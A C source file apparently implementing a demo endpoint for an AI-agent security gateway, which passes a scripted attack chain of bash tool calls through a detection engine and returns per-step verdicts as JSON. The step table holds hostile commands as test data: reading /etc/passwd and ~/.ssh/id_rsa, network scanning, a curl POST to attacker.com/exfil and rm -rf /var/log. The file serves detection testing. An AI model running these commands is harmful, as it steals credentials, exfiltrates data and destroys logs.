#include "api/demo.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>

#include "api/gateway.h"
#include "api/response.h"

typedef struct demo_step {
    const char *phase;
    const char *command;
    const char *args[4];
} demo_step;

static const demo_step steps[] = {
    {"reconnaissance", "whoami", {NULL}},
    {"reconnaissance", "pwd", {NULL}},
    {"reconnaissance", "ls", {"-la", NULL}},
    {"discovery", "cat", {"/etc/passwd", NULL}},
    {"credential-access", "find", {"/", "-name", "*.key", NULL}},
    {"credential-access", "cat", {"~/.ssh/id_rsa", NULL}},
    {"discovery", "nmap", {"-sV", "192.168.1.0/24", NULL}},
    {"lateral-movement", "ssh", {"user@192.168.1.100", NULL}},
    {"exfiltration", "curl", {"-X", "POST", "https://attacker.com/exfil", NULL}},
    {"impact", "rm", {"-rf", "/var/log", NULL}},
};
#define NSTEPS ((int)(sizeof(steps) / sizeof(steps[0])))

typedef struct demo_ctx demo_ctx;
typedef struct demo_guard {
    demo_ctx *ctx;
} demo_guard;

struct demo_ctx {
    px_gw_worker    *w;
    h2o_req_t       *req;
    demo_guard      *guard;
    px_arena        *arena;
    px_buf           out;
    char             session[48];
    int              step;
    int              pending;
    int              stopped_at;
    px_toolcall      call;
    px_str           args[4];
    px_analysis      an;
    px_session_state st;
};

static void demo_free(demo_ctx *d)
{
    if (d->guard != NULL)
        d->guard->ctx = NULL;
    px_buf_free(&d->out);
    px_gw_arena_put(d->w, d->arena);
    free(d);
}

static void on_dispose(void *p)
{
    demo_guard *g = p;
    if (g->ctx == NULL)
        return;
    g->ctx->req = NULL;
    g->ctx->guard = NULL;
    if (!g->ctx->pending)
        demo_free(g->ctx);
}

static void run_step(demo_ctx *d);

static void finish(demo_ctx *d)
{
    px_gw_worker *w = d->w;
    px_buf_printf(&d->out, "],\"steps_run\":%d", d->step);
    if (d->stopped_at > 0)
        px_buf_printf(&d->out, ",\"terminated_at_step\":%d", d->stopped_at);
    px_buf_printf(&d->out, ",\"mode\":\"%s\"}", px_mode_name(w->gw->cfg.mode));
    if (d->out.oom) {
        px_gateway_count_status(w, 500);
        px_gateway_count_error(w, "internal_error");
        px_http_send_error(d->req, 500, "internal_error", "out of memory");
        return;
    }
    px_gateway_count_status(w, 200);
    px_http_send(d->req, 200, "application/json", d->out.data, d->out.len);
}

static void on_recorded(void *p, int status)
{
    demo_ctx *d = p;
    px_gw_worker *w = d->w;
    if (d->pending) {
        d->pending = 0;
        px_http_worker_release(w->http);
    }
    if (d->req == NULL) {
        demo_free(d);
        return;
    }
    if (status != 0)
        d->st.available = 0;
    if (d->st.available && !d->st.terminated)
        px_engine_apply_session(w->engine, &d->st, &d->an);
    px_verdict v;
    px_verdict_make(&w->gw->cfg, &d->an, &d->st, &v);
    v.session_id = d->session;
    int terminate = w->gw->cfg.mode == PX_MODE_TERMINATE && v.decision == PX_TERMINATE;
    if (d->st.available)
        w->gw->store->ops->finish(w->store, d->session, d->an.score, terminate, px_now());
    const demo_step *s = &steps[d->step];
    px_buf_printf(&d->out, "%s{\"step\":%d,\"phase\":\"%s\",\"command\":", d->step > 0 ? "," : "", d->step + 1,
                  s->phase);
    char cmd[160];
    int n = snprintf(cmd, sizeof(cmd), "%s", s->command);
    for (int i = 0; s->args[i] != NULL && n < (int)sizeof(cmd); i++)
        n += snprintf(cmd + n, sizeof(cmd) - (size_t)n, " %s", s->args[i]);
    px_buf_json_str(&d->out, cmd, strlen(cmd));
    px_buf_printf(&d->out, ",\"status\":%d,", v.status);
    px_response_members(&d->out, w->gw->engine, &d->an, &v);
    px_buf_putc(&d->out, '}');
    d->step++;
    /* As the original demo: the chain stops where the mode would end the session. */
    if (terminate) {
        d->stopped_at = d->step;
        finish(d);
        return;
    }
    if (d->step == NSTEPS) {
        finish(d);
        return;
    }
    run_step(d);
}

static void run_step(demo_ctx *d)
{
    px_gw_worker *w = d->w;
    const demo_step *s = &steps[d->step];
    memset(&d->call, 0, sizeof(d->call));
    d->call.kind = PX_TC_BASH;
    d->call.u.bash.command = (px_str){s->command, strlen(s->command)};
    int n = 0;
    while (s->args[n] != NULL) {
        d->args[n] = (px_str){s->args[n], strlen(s->args[n])};
        n++;
    }
    d->call.u.bash.args = d->args;
    d->call.u.bash.nargs = n;
    px_arena_reset(d->arena);
    px_engine_analyze(w->engine, &d->call, d->arena, &d->an);
    px_session_event ev = {
        .session_id = d->session,
        .user_id = "demo@proxilion.local",
        .org_id = "proxilion-demo",
        .now = px_now(),
        .tactics = d->an.tactics,
        .targets = d->an.targets,
        .ntargets = d->an.ntargets,
        .techniques = d->an.techniques,
        .ntechniques = d->an.ntechniques,
    };
    d->pending = 1;
    px_http_worker_hold(w->http);
    w->gw->store->ops->record(w->store, &ev, &d->st, on_recorded, d);
}

void px_demo_route(px_http_worker *hw, h2o_req_t *req)
{
    px_gw_worker *w = px_http_worker_data(hw);
    demo_ctx *d = calloc(1, sizeof(*d));
    if (d == NULL || (d->arena = px_gw_arena_get(w)) == NULL) {
        free(d);
        px_gateway_count_status(w, 500);
        px_gateway_count_error(w, "internal_error");
        px_http_send_error(req, 500, "internal_error", "out of memory");
        return;
    }
    d->w = w;
    d->req = req;
    d->guard = h2o_mem_alloc_shared(&req->pool, sizeof(demo_guard), on_dispose);
    d->guard->ctx = d;
    unsigned char r[8] = {0};
    if (getrandom(r, sizeof(r), 0) != (ssize_t)sizeof(r))
        memset(r, 7, sizeof(r));
    snprintf(d->session, sizeof(d->session), "demo-gtg1002-%02x%02x%02x%02x%02x%02x%02x%02x", r[0], r[1], r[2], r[3],
             r[4], r[5], r[6], r[7]);
    px_buf_puts(&d->out, "{\"scenario\":\"GTG-1002 simulated attack chain\",\"session_id\":");
    px_buf_json_str(&d->out, d->session, strlen(d->session));
    px_buf_puts(&d->out, ",\"steps\":[");
    run_step(d);
}
